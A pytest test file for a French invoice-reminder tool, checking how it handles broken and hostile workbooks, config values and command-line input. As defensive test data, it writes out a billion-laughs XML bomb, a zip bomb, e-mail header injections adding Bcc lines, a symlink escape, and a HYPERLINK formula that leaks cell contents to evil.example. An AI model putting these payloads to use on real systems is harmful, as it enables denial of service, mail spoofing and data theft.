"""Bad, hostile and broken input: an unknown value is never empty, one bad cell never stops
the run, and nothing leaves before the workbook has been checked."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from relances.cli import relancer

from conftest import TODAY, client_row, days, invoice_row


def run(folder: Path, *args: str):
    result = CliRunner().invoke(relancer, ["--config", str(folder / "config.toml"),
                                           "--date", TODAY.isoformat(), *args])
    assert "Traceback" not in result.output and "erreur inattendue" not in result.output, \
        result.output
    return result


def plan(folder: Path) -> dict:
    result = run(folder, "--json")
    return json.loads(result.output)


def set_cells(path: Path, sheet: str, cells: dict[str, str]) -> None:
    """Replace cells of one sheet part by hand-written XML, as Excel would have written them."""
    part = {"Factures": "xl/worksheets/sheet1.xml", "Clients": "xl/worksheets/sheet2.xml"}[sheet]
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    data = parts[part]
    for ref, xml in cells.items():
        pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
        if pattern.search(data):
            data = pattern.sub(lambda _: xml.encode(), data, count=1)
        else:  # the cell was empty: add it at the end of its row
            row = re.sub(r"[A-Z]+", "", ref)
            data = re.sub(rb'(<row r="' + row.encode() + rb'"[^>]*>.*?)(</row>)',
                          lambda m: m.group(1) + xml.encode() + m.group(2), data, count=1,
                          flags=re.S)
    parts[part] = data
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


ERRORS = {
    "#N/A": '<c r="{ref}" t="e"><v>#N/A</v></c>',
    "#REF!": '<c r="{ref}" t="e"><f>Feuil2!#REF!</f><v>#REF!</v></c>',
    "#VALUE!": '<c r="{ref}" t="e"><f>A1+"x"</f><v>#VALUE!</v></c>',
    "#SPILL!": '<c r="{ref}" t="e"><f>SEQUENCE(3)</f><v>#SPILL!</v></c>',
    "#CALC!": '<c r="{ref}" t="e"><f>FILTER(A:A,A:A="z")</f><v>#CALC!</v></c>',
    "formule sans valeur calculée": '<c r="{ref}"><f>SUM(Paiements!B2:B3)</f></c>',
}
# Factures columns (exemple.FACTURES_HEADERS): D Échéance, E Montant TTC, F Payé, I Statut,
# O Promesse de paiement.
STOPPING = {"D": "Échéance", "E": "Montant TTC", "F": "Payé", "I": "Statut",
            "O": "Promesse de paiement", "A": "Client", "B": "N° facture"}


@pytest.mark.parametrize("error", list(ERRORS))
@pytest.mark.parametrize("column", list(STOPPING))
def test_an_unknown_value_where_it_could_stop_chasing_stops_chasing(small_project, column,
                                                                     error):
    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10)),
                            invoice_row(numero="F-2", client="Beta", echeance=TODAY - days(10))],
                           [client_row(), client_row("Beta", "compta@beta.fr")])
    set_cells(folder / "relances.xlsx", "Factures",
              {f"{column}2": ERRORS[error].format(ref=f"{column}2")})
    result = plan(folder)
    chased = {n for action in result["actions"] for n in action["invoices"]}
    assert "F-1" not in chased
    assert "F-2" in chased  # the other rows go on
    (problem,) = [e for e in result["errors"] if e["row"] == 2]
    assert problem["sheet"] == "Factures"
    assert problem["message"].startswith(f"{STOPPING[column]} ({column}2) : ")
    expected = error if error.startswith("formule") else f"valeur d’erreur {error}"
    assert expected in problem["message"]
    assert "non relancée tant que la cellule n’est pas corrigée" in problem["message"]


@pytest.mark.parametrize("error", list(ERRORS))
def test_an_unknown_value_elsewhere_never_stops_the_read(small_project, error):
    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    set_cells(folder / "relances.xlsx", "Factures", {"P2": ERRORS[error].format(ref="P2")})
    set_cells(folder / "relances.xlsx", "Clients", {"D2": ERRORS[error].format(ref="D2")})
    result = run(folder)
    assert result.exit_code == 0, result.output
    assert "rappel → Alpha" in result.output


def test_an_unknown_pause_stops_the_client(small_project):
    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    set_cells(folder / "relances.xlsx", "Clients", {"I2": ERRORS["#N/A"].format(ref="I2")})
    result = plan(folder)
    assert result["actions"] == []
    (problem,) = result["errors"]
    assert problem["sheet"] == "Clients" and problem["row"] == 2
    assert "Pause jusqu’au (I2) : valeur d’erreur #N/A" in problem["message"]


def test_a_paid_formula_without_its_value_is_not_read_as_zero(small_project):
    """openpyxl and some generators write formulas without the value Excel would compute."""
    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    set_cells(folder / "relances.xlsx", "Factures",
              {"F2": '<c r="F2" s="3"><f>SUM(Paiements!B2:B3)</f><v></v></c>'})
    result = plan(folder)
    assert result["actions"] == []
    assert "Payé (F2) : formule sans valeur calculée" in result["errors"][0]["message"]


def test_a_workbook_without_a_clients_sheet_is_reported(small_project):
    import openpyxl

    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    del book["Clients"]
    book.save(folder / "relances.xlsx")
    result = plan(folder)
    assert any("feuille « Clients » introuvable" in e["message"] for e in result["errors"])


def test_the_workbook_with_an_error_is_still_written_back_exactly(small_project):
    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10)),
                            invoice_row(numero="F-2", echeance=TODAY - days(10))])
    set_cells(folder / "relances.xlsx", "Factures", {"F2": ERRORS["#SPILL!"].format(ref="F2")})
    result = run(folder)
    assert result.exit_code == 1
    with zipfile.ZipFile(folder / "relances.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<v>#SPILL!</v>" in sheet  # the user's cell is kept as it was


# ------------------------------------------------------------ each client is itself

@pytest.mark.parametrize("one, other", [("☆", "★"), ("Dupont & Fils", "Dupont Fils"),
                                        ("Client²", "Client2"), ("Ｌｕｃ", "Luc"),
                                        ("SARL-Ouest", "SARL Ouest")])
def test_two_names_that_differ_beyond_case_accents_and_spaces_are_two_clients(small_project,
                                                                             one, other):
    folder = small_project([invoice_row(client=one, numero="F-1", echeance=TODAY - days(10)),
                            invoice_row(client=other, numero="F-2", echeance=TODAY - days(10))],
                           [client_row(one, "un@exemple.fr"), client_row(other, "autre@exemple.fr")])
    to = {tuple(a["invoices"]): a["to"] for a in plan(folder)["actions"]}
    assert to == {("F-1",): "un@exemple.fr", ("F-2",): "autre@exemple.fr"}


def test_case_accents_and_spaces_still_match(small_project):
    folder = small_project([invoice_row(client="  société  GÉNÉRALE ", numero="F-1",
                                        echeance=TODAY - days(10))],
                           [client_row("Société Générale", "compta@sg.fr")])
    (action,) = plan(folder)["actions"]
    assert action["to"] == "compta@sg.fr"


def test_a_client_twice_in_clients_is_not_chased_at_all(small_project):
    folder = small_project([invoice_row(client="Alpha", numero="F-1", echeance=TODAY - days(40)),
                            invoice_row(client="Beta", numero="F-2", echeance=TODAY - days(10))],
                           [client_row("Alpha", "a@alpha.fr"), client_row("Beta", "b@beta.fr"),
                            client_row("ALPHA", "pirate@exemple.fr")])
    result = plan(folder)
    assert [a["invoices"] for a in result["actions"]] == [["F-2"]]
    (problem,) = [e for e in result["errors"] if e["sheet"] == "Clients"]
    assert problem["row"] == 4 and "client en double" in problem["message"]


def test_an_invoice_whose_client_is_not_in_clients_is_reported(small_project):
    folder = small_project([invoice_row(client="Inconnu SA", numero="F-1",
                                        echeance=TODAY - days(10))])
    result = plan(folder)
    assert result["actions"] == []
    assert any("client « Inconnu SA » absent de la feuille Clients" in e["message"]
               for e in result["errors"])


# ------------------------------------------------------------ one bad cell never stops the run

@pytest.mark.parametrize("bad, message", [
    (dict(echeance=__import__("datetime").date(9999, 12, 31)), "Échéance : date hors limites"),
    (dict(echeance=__import__("datetime").date(1850, 1, 1)), "Échéance : date "),
    (dict(montant=1e30), "Montant TTC : montant hors limites"),
    (dict(montant=1e300), "Montant TTC : montant hors limites"),
    (dict(montant="123456789012345678901234567890"), "Montant TTC : montant hors limites"),
    (dict(paye=1e300), "Payé : montant hors limites"),
    (dict(promesse="31/02/2026"), "Promesse de paiement : date inexistante"),
])
def test_a_bad_cell_is_reported_and_every_other_row_goes_on(small_project, bad, message):
    folder = small_project([invoice_row(numero="F-BAD", **{"echeance": TODAY - days(30), **bad}),
                            invoice_row(client="Beta", numero="F-OK", echeance=TODAY - days(10))],
                           [client_row(), client_row("Beta", "b@beta.fr")])
    result = plan(folder)
    assert [a["invoices"] for a in result["actions"]] == [["F-OK"]]
    (problem,) = result["errors"]
    assert problem["row"] == 2 and problem["message"].startswith(message)
    assert len(problem["message"]) < 300
    assert run(folder).exit_code == 1


def test_a_line_break_in_an_invoice_number_never_reaches_a_header(small_project):
    import email
    import email.policy

    folder = small_project([invoice_row(numero="F-1\nBcc: pirate@exemple.fr",
                                        echeance=TODAY - days(10)),
                            invoice_row(client="Beta", numero="F-2", echeance=TODAY - days(10))],
                           [client_row(), client_row("Beta\r\nX-Evil: 1", "b@beta.fr",
                                                     contact="Bob\nBcc: x@y.fr")])
    result = run(folder)
    assert result.exit_code in (0, 1), result.output
    messages = [email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
                for p in (folder / "sortie").rglob("*.eml")]
    assert len(messages) >= 1
    for message in messages:
        assert message["Bcc"] is None and message["X-Evil"] is None
        assert "\n" not in message["Subject"]


def test_a_40000_character_cell_is_read_and_cut_in_messages(small_project):
    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10),
                                        notes="x" * 40_000, promesse="y" * 40_000)])
    result = plan(folder)
    (problem,) = result["errors"]
    assert "caractères)" in problem["message"] and len(problem["message"]) < 300


# ------------------------------------------------------------ config and command line

@pytest.mark.parametrize("line, key", [
    ("taux_annuel = nan", "penalites.taux_annuel"),
    ("taux_annuel = inf", "penalites.taux_annuel"),
    ("taux_annuel = 1e300", "penalites.taux_annuel"),
    ("indemnite_forfaitaire = -inf", "penalites.indemnite_forfaitaire"),
])
def test_absurd_numbers_in_config_are_refused_naming_the_key(project, line, key):
    config = project / "config.toml"
    text = config.read_text(encoding="utf-8")
    text = re.sub(r"^" + line.split(" ")[0] + r" = .*$", line, text, flags=re.M)
    config.write_text(text, encoding="utf-8")
    result = run(project)
    assert result.exit_code == 2
    assert f"config.toml: {key} :" in result.output


@pytest.mark.parametrize("value", ["100000", "-100000", "99999999999999999999"])
def test_absurd_day_counts_are_refused_naming_the_key(project, value):
    config = project / "config.toml"
    text = config.read_text(encoding="utf-8").replace("apres_jours = 3", f"apres_jours = {value}", 1)
    config.write_text(text, encoding="utf-8")
    result = run(project)
    assert result.exit_code == 2
    assert "config.toml: etapes[1].apres_jours : entre -3650 et 3650 est attendu" in result.output \
        or "config.toml: etapes[1].apres_jours" in result.output


@pytest.mark.parametrize("args, message", [
    (["--config", "."], "c’est un dossier"),
    (["--nimportequoi"], "option inconnue « --nimportequoi »"),
    (["--confirmer-envoi", "abc"], "--confirmer-envoi : un nombre entier est attendu"),
    (["en-trop"], "argument inattendu « en-trop »"),
])
def test_command_line_mistakes_are_explained_in_french(project, args, message):
    import subprocess
    import sys

    from conftest import ROOT

    done = subprocess.run([sys.executable, str(ROOT / "scripts" / "relancer.py"), *args],
                          cwd=project, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert done.stderr.startswith("Erreur : ") and message in done.stderr
    assert "Error" not in done.stderr and "Traceback" not in done.stderr


# ------------------------------------------------------------ attachments stay in their folder

def test_a_link_out_of_the_invoices_folder_is_never_attached(project, tmp_path):
    import email
    import email.policy

    secret = tmp_path / "secret.pdf"
    secret.write_bytes(b"%PDF-1.4 confidentiel")
    copy = project / "factures" / "F-2026-031.pdf"
    copy.unlink()
    copy.symlink_to(secret)
    result = run(project)
    assert "lien vers un fichier hors du dossier des factures" in result.output
    (path,) = [p for p in (project / "sortie").rglob("*.eml") if "boulangerie" in p.name]
    message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    names = {part.get_filename() for part in message.iter_attachments()}
    assert names == {"F-2026-044.pdf"}


def test_an_oversized_copy_is_skipped_with_a_warning(project):
    config = project / "config.toml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "# taille_max_mo = 10", "taille_max_mo = 1"), encoding="utf-8")
    with open(project / "factures" / "F-2026-031.pdf", "ab") as handle:
        handle.write(b"\0" * (2 * 1024 * 1024))
    result = run(project)
    assert "F-2026-031.pdf : 2\u00a0Mo, au-delà de la limite de 1\u00a0Mo" in result.output
    assert result.exit_code == 1  # Café du Commerce, as always: warnings do not change it


def test_a_formal_notice_without_a_postal_address_is_not_produced(small_project):
    folder = small_project(
        [invoice_row(numero="F-1", echeance=TODAY - days(50),
                     etape=f"dernier_rappel ({(TODAY - days(12)):%d/%m/%Y})")],
        [("Alpha", "Anne Alpha", "compta@alpha.fr", "04 00 00 00 00", "  ", "fr",
          "professionnel", "", None)])
    result = plan(folder)
    assert result["actions"] == []
    (problem,) = result["errors"]
    assert problem["sheet"] == "Clients"
    assert "adresse postale manquante, « Mise en demeure » non produit" in problem["message"]
    run(folder)
    assert not list((folder / "sortie").rglob("*.pdf"))


# ------------------------------------------------------------ headers that hide a column

def test_a_merged_header_is_refused_before_anything_is_sent(small_project):
    import openpyxl

    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10), paye=1000)])
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    book["Factures"].merge_cells("E1:F1")  # « Montant TTC » now also covers Payé
    book.save(folder / "relances.xlsx")
    result = run(folder)
    assert result.exit_code == 2
    assert "cellules d’en-tête fusionnées (E1:F1)" in result.output
    assert not (folder / "sortie").exists()


def test_a_merged_title_above_the_header_is_fine(small_project):
    import openpyxl

    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    sheet = book["Factures"]
    sheet.insert_rows(1)
    sheet["A1"] = "Suivi des factures 2026"
    sheet.merge_cells("A1:F1")
    book.save(folder / "relances.xlsx")
    (action,) = plan(folder)["actions"]
    assert action["invoices"] == ["F-1"]


@pytest.mark.parametrize("header", ["Payé", "Montant payé", "Statut"])
def test_a_column_that_stops_chasing_found_twice_is_refused(small_project, header):
    import openpyxl

    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    book["Factures"]["P1"] = header
    book["Factures"]["P2"] = 1000 if header != "Statut" else "Payée"
    book.save(folder / "relances.xlsx")
    result = run(folder)
    assert result.exit_code == 2
    assert "en double (colonnes" in result.output and "et P)" in result.output


# ------------------------------------------------------------ the workbook is checked first

def _rewrite(path: Path, change) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode()
                             for i in range(1, 10))
                  + b']><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                    b'main"><numFmts><numFmt numFmtId="164" formatCode="&lol9;"/></numFmts>'
                    b'</styleSheet>')


def _bomb(parts):
    parts["xl/media/bombe.bin"] = b"\0" * (8 * 1024 * 1024)


def _laughs(parts):
    parts["xl/styles.xml"] = BILLION_LAUGHS


def _many(parts):
    for i in range(10_001):
        parts[f"xl/vide/{i}.txt"] = b""


def _far_row(parts):
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c>'
                         b"</row></sheetData>")


@pytest.mark.parametrize("change, message", [
    (_bomb, "compressée"), (_laughs, "DOCTYPE"), (_many, "parties dans le fichier"),
    (_far_row, "la feuille va jusqu’à la ligne 1048576"),
])
def test_a_hostile_package_is_refused_quickly_before_anything_is_sent(project, change, message):
    import os
    import subprocess
    import sys
    import threading
    import time

    from conftest import ROOT

    _rewrite(project / "relances.xlsx", change)
    start = time.perf_counter()
    child = subprocess.Popen([sys.executable, str(ROOT / "scripts" / "relancer.py"),
                              "--date", TODAY.isoformat()], cwd=project, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    watchdog = threading.Timer(60, child.kill)  # bounded in time, whatever happens
    watchdog.start()
    _, status, usage = os.wait4(child.pid, 0)
    watchdog.cancel()
    err = child.stderr.read()
    assert os.waitstatus_to_exitcode(status) == 2, err
    assert err.startswith("Erreur : ") and message in err
    assert time.perf_counter() - start < 30
    assert usage.ru_maxrss < 1024 * 1024  # KiB: under 1 GB
    assert not (project / "sortie").exists()
    assert not (project / "relances.journal.sqlite").exists()


# ------------------------------------------------------------ any cell, any value

from hypothesis import HealthCheck, assume, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from xml.sax.saxutils import escape  # noqa: E402

XML_TEXT = st.text(st.characters(blacklist_categories=("Cs",),
                                 blacklist_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08"
                                                      "\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14"
                                                      "\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d"
                                                      "\x1e\x1f\ufffe\uffff"), max_size=60)
HOSTILE = st.one_of(
    XML_TEXT.map(lambda t: f'<c r="{{ref}}" t="inlineStr"><is><t xml:space="preserve">'
                           f"{escape(t)}</t></is></c>"),
    st.sampled_from(["=HYPERLINK(\"http://evil\")", "_x0000_F_x000A_-1", "x" * 5000,
                     "\u202eRTL", "1.234", "31/02/2026", "9999-12-31", "compta@société.fr",
                     "a@b;c@d, ,", "Payée ", "LITIGE", "-1", "(12,50)", "1e300"])
      .map(lambda t: f'<c r="{{ref}}" t="inlineStr"><is><t>{escape(t)}</t></is></c>'),
    st.sampled_from(["1e300", "-1e300", "1E+30", "123456789012345678901234567890", "2958466",
                     "-1", "0.000001", "3.5", "45000.75", "60"])
      .map(lambda v: f'<c r="{{ref}}"><v>{v}</v></c>'),
    st.sampled_from(["0", "1"]).map(lambda v: f'<c r="{{ref}}" t="b"><v>{v}</v></c>'),
    st.sampled_from(list(ERRORS.values())),
)
# The cells that make each state: a new valid value there may legitimately end the state.
MAKES_STATE = {"payée": {("Factures", "E"), ("Factures", "F")},
               "litige": {("Factures", "I")}, "promise": {("Factures", "O")},
               "en pause": {("Clients", "I"), ("Clients", "A"), ("Factures", "A")}}
STATES = {  # an invoice that must never be chased, whatever else its row or client holds
    "payée": dict(paye=__import__("decimal").Decimal("1000")),
    "litige": dict(statut="Litige"),
    "promise": dict(promesse=TODAY + days(5)),
    "en pause": dict(),
}


@settings(max_examples=int(__import__("os").environ.get("RELANCES_EXEMPLES", "40")),
          deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(sheet=st.sampled_from(["Factures", "Clients"]), column=st.integers(0, 15),
       cell=HOSTILE, state=st.sampled_from(sorted(STATES)))
def test_any_value_in_any_cell_never_chases_wrongly_nor_stops_the_others(small_project, sheet,
                                                                          column, cell, state):
    pause = TODAY + days(30) if state == "en pause" else None
    folder = small_project(
        [invoice_row(numero="F-CIBLE", echeance=TODAY - days(40), **STATES[state]),
         invoice_row(client="Beta", numero="F-OK", echeance=TODAY - days(10))],
        [client_row(pause=pause), client_row("Beta", "b@beta.fr")])
    import shutil

    (folder / "relances.journal.sqlite").unlink(missing_ok=True)  # the last example's
    shutil.rmtree(folder / "sortie", ignore_errors=True)
    letters = "ABCDEFGHIJKLMNOP" if sheet == "Factures" else "ABCDEFGHIJKL"
    ref = f"{letters[column % len(letters)]}2"
    assume((sheet, ref[0]) not in MAKES_STATE[state])
    set_cells(folder / "relances.xlsx", sheet, {ref: cell.replace("{ref}", ref)})
    result = run(folder, "--json")
    assert result.exit_code in (0, 1), result.output
    actions = json.loads(result.output)["actions"]
    chased = {n for action in actions for n in action["invoices"]}
    assert "F-CIBLE" not in chased, (state, ref, cell)
    assert "F-OK" in chased, (ref, cell, result.output)
    second = run(folder)  # and a real run, with its write-back, holds too
    assert second.exit_code in (0, 1), second.output


def test_text_that_looks_like_a_formula_is_written_as_text_everywhere(small_project):
    import openpyxl

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    folder = small_project([invoice_row(client="x", numero="x", echeance=TODAY - days(10))],
                           [client_row("x", "compta@alpha.fr")])
    text = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
    # Typed as text (Excel's leading apostrophe): a string that starts with = or +.
    set_cells(folder / "relances.xlsx", "Factures", {"A2": text.format("A2", escape(hostile)),
                                                     "B2": text.format("B2", "+F-1")})
    set_cells(folder / "relances.xlsx", "Clients", {"A2": text.format("A2", escape(hostile))})
    assert run(folder).exit_code == 0
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    journal = book["Journal"]
    assert journal["C2"].value == hostile and journal["C2"].data_type == "s"
    assert journal["D2"].value == "+F-1" and journal["D2"].data_type == "s"
    with zipfile.ZipFile(folder / "relances.xlsx") as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        journal_part = max(names)
        assert b"<f>" not in archive.read(journal_part)


def test_a_preview_whose_invoice_copy_vanished_reports_it_and_goes_on(project, monkeypatch):
    """A copy found while rendering, gone when the message is built (a race no file system
    can be made to lose on cue: the one place this test stands in for the disk)."""
    from relances import run as run_module
    from relances.errors import DeliveryError

    real = run_module.build_email

    def vanished(rendu, *args, **kwargs):
        if rendu.action.client == "Boulangerie Martin":
            raise DeliveryError("factures/F-2026-031.pdf : lecture impossible (fichier disparu)")
        return real(rendu, *args, **kwargs)

    monkeypatch.setattr(run_module, "build_email", vanished)
    result = run(project, "--apercu", str(project / "apercu"))
    assert result.exit_code == 1
    assert "aperçu de « rappel » impossible" in result.output
    assert len(list((project / "apercu").glob("*.eml"))) == 4


def test_a_second_name_column_in_clients_is_not_an_error(small_project):
    import openpyxl

    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    book["Clients"]["M1"] = "Nom"  # the contact's last name, after « Client »
    book["Clients"]["M2"] = "Alpha-Dupont"
    book.save(folder / "relances.xlsx")
    (action,) = plan(folder)["actions"]
    assert action["client"] == "Alpha"


def test_a_second_pause_column_in_clients_is_refused(small_project):
    import openpyxl

    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10))])
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    book["Clients"]["J1"] = "Pause"
    book["Clients"]["J2"] = TODAY + days(10)
    book.save(folder / "relances.xlsx")
    result = run(folder)
    assert result.exit_code == 2 and "colonne « Pause jusqu’au » en double" in result.output


def test_the_row_limit_is_a_config_key(small_project):
    folder = small_project([invoice_row(numero=f"F-{i}", echeance=TODAY - days(10))
                            for i in range(30)])
    config = folder / "config.toml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "# lignes_max = 200000", "lignes_max = 20"), encoding="utf-8")
    result = run(folder)
    assert result.exit_code == 2
    assert "la feuille va jusqu’à la ligne 32 (au plus 20 lignes, clé lignes_max" in result.output


# ------------------------------------------------------------ the write-back, one row at a time

@pytest.mark.parametrize("cell, skipped", [
    # A huge number: read through a float, as the reader does, it is matched and written.
    ('<c r="B2"><v>1E+30</v></c>', False),
    # A number typed into a date cell: read as a date, it cannot be matched.
    ('<c r="B2" s="2"><v>46000</v></c>', True),
])
def test_an_invoice_number_cell_that_cannot_be_matched_skips_its_row_only(small_project, cell,
                                                                          skipped):
    import openpyxl

    folder = small_project([invoice_row(numero="F-1", echeance=TODAY - days(10)),
                            invoice_row(client="Beta", numero="F-2", echeance=TODAY - days(10))],
                           [client_row(), client_row("Beta", "b@beta.fr")])
    set_cells(folder / "relances.xlsx", "Factures", {"B2": cell})
    result = run(folder)
    book = openpyxl.load_workbook(folder / "relances.xlsx")
    factures = book["Factures"]
    assert factures["J3"].value.startswith("Premier rappel") and "Journal" in book.sheetnames
    if skipped:
        assert result.exit_code == 1, result.output
        assert factures["J2"].value is None and factures["B2"].value.year == 2025
        assert ("relances.xlsx:Factures!2 : B2 : N° facture « 46000 », lu « 2025-12-09 » : "
                "cellules de l’outil de cette ligne non mises à jour") in result.output
        again = run(folder)  # reported again until corrected
        assert "B2 : N° facture « 46000 »" in again.output
    else:
        assert result.exit_code == 0, result.output
        assert factures["J2"].value.startswith("Premier rappel")


def test_a_save_landing_between_the_last_check_and_the_replace_is_kept(project, monkeypatch):
    """The user saves while the backup is copied, after the file was checked (a moment no
    file system can be made to hit on cue: the hook stands in for the user)."""
    import openpyxl

    from relances.xlsx import ecriture

    real, saves = ecriture._backup, []

    def user_saves_then_backup(path, folder):
        if not saves:
            saves.append(path)
            book = openpyxl.load_workbook(path)
            book["Factures"]["P2"] = "Note tapée pendant la sauvegarde"
            book.save(path)
        return real(path, folder)

    monkeypatch.setattr(ecriture, "_backup", user_saves_then_backup)
    result = run(project)
    assert saves and "classeur non mis à jour" not in result.output, result.output
    factures = openpyxl.load_workbook(project / "relances.xlsx")["Factures"]
    assert factures["P2"].value == "Note tapée pendant la sauvegarde"
    assert factures["B2"].value == "F-2026-031"
    assert factures["J2"].value == "Premier rappel (22/11/2026)"


@pytest.mark.parametrize("as_json", [False, True])
def test_a_workbook_saved_again_at_every_write_attempt_gives_up_cleanly(project, monkeypatch,
                                                                        as_json):
    """The user saves each time the write-back has opened the file: the parts it reads next
    are no longer where they were (before: BadZipFile, « erreur inattendue »). The hook stands
    in for a user saving on cue."""
    import openpyxl

    from relances.xlsx import ecriture

    saves = []

    class SavedMeanwhile(ecriture.Package):
        @classmethod
        def open(cls, path):
            package = super().open(path)
            book = openpyxl.load_workbook(path)
            book["Factures"]["P2"] = f"Enregistrement n° {len(saves) + 1}"
            book.save(path)
            saves.append(path)
            return package

    monkeypatch.setattr(ecriture, "Package", SavedMeanwhile)
    result = run(project, *(["--json"] if as_json else []))
    assert result.exit_code == 1, result.output
    assert len(saves) == 3  # run.WRITE_ATTEMPTS, each after reading the file again
    sent = sorted((project / "sortie").rglob("*.eml"))
    assert len(sent) == 5
    message = "relances.xlsx : modifié sans cesse pendant l’exécution, non mis à jour"
    if as_json:
        plan = json.loads(result.output)
        assert sum(a["channel"] == "email" for a in plan["actions"]) >= len(sent)
        assert any(e["message"].startswith(message) for e in plan["errors"])
    else:
        assert "E-mails préparés" in result.output and sent[0].name in result.output
        assert message in result.output
    factures = openpyxl.load_workbook(project / "relances.xlsx")["Factures"]
    assert factures["P2"].value == "Enregistrement n° 3"  # the user's last save, untouched


def test_a_save_while_the_workbook_is_checked_is_read_again(project, monkeypatch):
    """The same, once, while the run reads the workbook: it reads it again."""
    import openpyxl

    from relances.xlsx import controle

    saves = []

    class SavedOnce(controle.Package):
        @classmethod
        def open(cls, path):
            package = super().open(path)
            if not saves:
                book = openpyxl.load_workbook(path)
                book["Factures"]["P2"] = "Enregistré pendant la lecture"
                book.save(path)
                saves.append(path)
            return package

    monkeypatch.setattr(controle, "Package", SavedOnce)
    result = run(project)
    assert saves and result.exit_code == 1, result.output  # Café du Commerce: no address
    assert "E-mails préparés" in result.output and "modifié" not in result.output
    factures = openpyxl.load_workbook(project / "relances.xlsx")["Factures"]
    assert factures["P2"].value == "Enregistré pendant la lecture"
    assert factures["J2"].value == "Premier rappel (22/11/2026)"
